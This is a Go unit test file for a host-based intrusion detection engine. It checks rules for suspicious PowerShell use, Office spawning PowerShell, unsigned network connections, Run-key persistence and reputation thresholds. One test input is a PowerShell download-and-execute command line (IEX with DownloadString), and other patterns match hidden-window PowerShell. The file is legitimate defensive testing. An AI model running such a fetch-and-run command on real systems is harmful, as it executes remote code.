package detect

import (
	"testing"
	"time"

	"hostguard/core"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type fakeLookup struct {
	procs map[core.ProcessKey]core.ProcessSnapshot
	conns map[core.ProcessKey]int
}

func newFakeLookup(procs ...core.ProcessSnapshot) *fakeLookup {
	l := &fakeLookup{
		procs: make(map[core.ProcessKey]core.ProcessSnapshot),
		conns: make(map[core.ProcessKey]int),
	}
	for _, p := range procs {
		l.procs[p.Key()] = p
	}
	return l
}

func (l *fakeLookup) Process(key core.ProcessKey) (core.ProcessSnapshot, bool) {
	p, ok := l.procs[key]
	return p, ok
}

func (l *fakeLookup) ConnectionCount(key core.ProcessKey) int {
	return l.conns[key]
}

func compiledRule(t *testing.T, cond core.Condition) *core.DetectionRule {
	t.Helper()
	r := &core.DetectionRule{
		ID:        "TEST-1",
		Name:      "test rule",
		Severity:  core.SeverityLow,
		Enabled:   true,
		Condition: cond,
	}
	require.NoError(t, r.Validate())
	require.NoError(t, r.Condition.Compile(time.Second))
	return r
}

func snapshot(pid uint32, image string, signed *bool) core.ProcessSnapshot {
	return core.ProcessSnapshot{
		HostID:    testHost,
		ProcessID: pid,
		ImagePath: image,
		Signed:    signed,
		StartTime: t0,
	}
}

func TestEvaluate_ProcessName(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{
		Kind:     core.PredProcessName,
		Patterns: []core.Pattern{core.Literal("powershell.exe")},
	}))
	lookup := newFakeLookup(snapshot(7, `C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.EXE`, nil))

	tests := []struct {
		name string
		ev   *core.Event
		want bool
	}{
		{"creation payload", processCreated(5, 0, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "", t0), true},
		{"different image", processCreated(5, 0, `C:\Windows\System32\cmd.exe`, "", t0), false},
		{"network event reads the table, case-insensitively", networkConn(7, t0, "192.0.2.1", nil), true},
		{"network event for an untracked process", networkConn(8, t0, "192.0.2.1", nil), false},
		{"termination without image", processTerminated(5, t0), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Evaluate(rule, tt.ev, lookup))
		})
	}
}

func TestEvaluate_ImagePathGlob(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{
		Kind:     core.PredImagePath,
		Patterns: []core.Pattern{core.Glob(`*\\appdata\\local\\temp\\*`)},
	}))

	assert.True(t, Evaluate(rule, processCreated(5, 0, `C:\Users\bob\AppData\Local\Temp\x.exe`, "", t0), nil))
	assert.False(t, Evaluate(rule, processCreated(5, 0, `C:\Program Files\x.exe`, "", t0), nil))
}

func TestEvaluate_CommandLine(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{
		Kind:     core.PredCommandLine,
		Patterns: []core.Pattern{core.Regex(`downloadstring`)},
	}))

	assert.True(t, Evaluate(rule, processCreated(5, 0, `C:\ps.exe`, "IEX (New-Object Net.WebClient).DownloadString('http://x')", t0), nil))
	assert.False(t, Evaluate(rule, processCreated(5, 0, `C:\ps.exe`, "Get-ChildItem", t0), nil))
	assert.False(t, Evaluate(rule, processCreated(5, 0, `C:\ps.exe`, "", t0), nil), "missing command line never matches")
}

func TestEvaluate_ParentChild(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{
		Kind:   core.PredParentChild,
		Parent: []core.Pattern{core.Literal("winword.exe")},
		Child:  []core.Pattern{core.Literal("powershell.exe")},
	}))
	lookup := newFakeLookup(
		snapshot(100, `C:\Program Files\Microsoft Office\WINWORD.EXE`, boolPtr(true)),
		snapshot(101, `C:\Windows\explorer.exe`, boolPtr(true)),
		snapshot(102, "", nil),
	)
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`

	assert.True(t, Evaluate(rule, processCreated(200, 100, ps, "", t0), lookup))
	assert.False(t, Evaluate(rule, processCreated(200, 101, ps, "", t0), lookup), "wrong parent")
	assert.False(t, Evaluate(rule, processCreated(200, 100, `C:\Windows\notepad.exe`, "", t0), lookup), "wrong child")
	assert.False(t, Evaluate(rule, processCreated(200, 999, ps, "", t0), lookup), "unknown parent")
	assert.False(t, Evaluate(rule, processCreated(200, 102, ps, "", t0), lookup), "parent without image")
	assert.False(t, Evaluate(rule, processCreated(200, 0, ps, "", t0), lookup), "no parent reported")

	term := processTerminated(200, t0)
	term.ParentProcessID = u32(100)
	term.Process.ImagePath = ps
	assert.False(t, Evaluate(rule, term, lookup), "only creations match")
}

func TestEvaluate_UnsignedNetwork(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{Kind: core.PredUnsignedNetwork}))
	lookup := newFakeLookup(
		snapshot(1, `C:\a.exe`, boolPtr(false)),
		snapshot(2, `C:\b.exe`, boolPtr(true)),
		snapshot(3, `C:\c.exe`, nil),
	)

	assert.True(t, Evaluate(rule, networkConn(1, t0, "192.0.2.1", nil), lookup))
	assert.False(t, Evaluate(rule, networkConn(2, t0, "192.0.2.1", nil), lookup))
	assert.False(t, Evaluate(rule, networkConn(3, t0, "192.0.2.1", nil), lookup), "unknown signature is not unsigned")
	assert.False(t, Evaluate(rule, networkConn(4, t0, "192.0.2.1", nil), lookup))
	assert.False(t, Evaluate(rule, unsigned(processCreated(1, 0, `C:\a.exe`, "", t0)), lookup))
}

func TestEvaluate_RegistryKey(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{
		Kind:     core.PredRegistryKey,
		Patterns: []core.Pattern{core.Regex(`\\CurrentVersion\\Run$`)},
		Actions:  []core.RegistryAction{core.RegistryCreate, core.RegistryModify},
	}))
	runKey := `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`

	assert.True(t, Evaluate(rule, registryWrite(5, t0, core.RegistryCreate, runKey), nil))
	assert.True(t, Evaluate(rule, registryWrite(5, t0, core.RegistryModify, runKey), nil))
	assert.False(t, Evaluate(rule, registryWrite(5, t0, core.RegistryDelete, runKey), nil))
	assert.False(t, Evaluate(rule, registryWrite(5, t0, core.RegistryCreate, `HKCU\Software\Vendor`), nil))
	assert.False(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", nil), nil))
}

func TestEvaluate_Reputation(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{Kind: core.PredReputation, Threshold: 20}))

	assert.True(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", intPtr(0)), nil))
	assert.True(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", intPtr(20)), nil))
	assert.False(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", intPtr(21)), nil))
	assert.False(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", nil), nil), "missing score never matches")
}

func TestEvaluate_ConnectionRate(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{Kind: core.PredConnectionRate, Threshold: 3}))
	lookup := newFakeLookup()
	lookup.conns[pkey(5)] = 3
	lookup.conns[pkey(6)] = 2

	assert.True(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", nil), lookup))
	assert.False(t, Evaluate(rule, networkConn(6, t0, "192.0.2.1", nil), lookup))
	assert.False(t, Evaluate(rule, processCreated(5, 0, `C:\a.exe`, "", t0), lookup))
	assert.False(t, Evaluate(rule, networkConn(5, t0, "192.0.2.1", nil), nil))
}

func TestEvaluate_BooleanComposition(t *testing.T) {
	isPS := core.Match(core.Predicate{Kind: core.PredProcessName, Patterns: []core.Pattern{core.Literal("powershell.exe")}})
	hidden := core.Match(core.Predicate{Kind: core.PredCommandLine, Patterns: []core.Pattern{core.Regex(`-w(indowstyle)?\s+hidden`)}})
	isCmd := core.Match(core.Predicate{Kind: core.PredProcessName, Patterns: []core.Pattern{core.Literal("cmd.exe")}})

	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	hiddenPS := processCreated(5, 0, ps, "powershell -w hidden -c x", t0)
	plainPS := processCreated(5, 0, ps, "powershell -c x", t0)
	cmd := processCreated(5, 0, `C:\Windows\System32\cmd.exe`, "cmd /c x", t0)

	all := compiledRule(t, core.All(isPS, hidden))
	assert.True(t, Evaluate(all, hiddenPS, nil))
	assert.False(t, Evaluate(all, plainPS, nil))

	anyOf := compiledRule(t, core.Any(isPS, isCmd))
	assert.True(t, Evaluate(anyOf, plainPS, nil))
	assert.True(t, Evaluate(anyOf, cmd, nil))

	notHidden := compiledRule(t, core.All(isPS, core.Not(hidden)))
	assert.True(t, Evaluate(notHidden, plainPS, nil))
	assert.False(t, Evaluate(notHidden, hiddenPS, nil))
}

func TestEvaluate_NilInputs(t *testing.T) {
	rule := compiledRule(t, core.Match(core.Predicate{Kind: core.PredUnsignedNetwork}))
	assert.False(t, Evaluate(nil, networkConn(1, t0, "192.0.2.1", nil), nil))
	assert.False(t, Evaluate(rule, nil, nil))
}
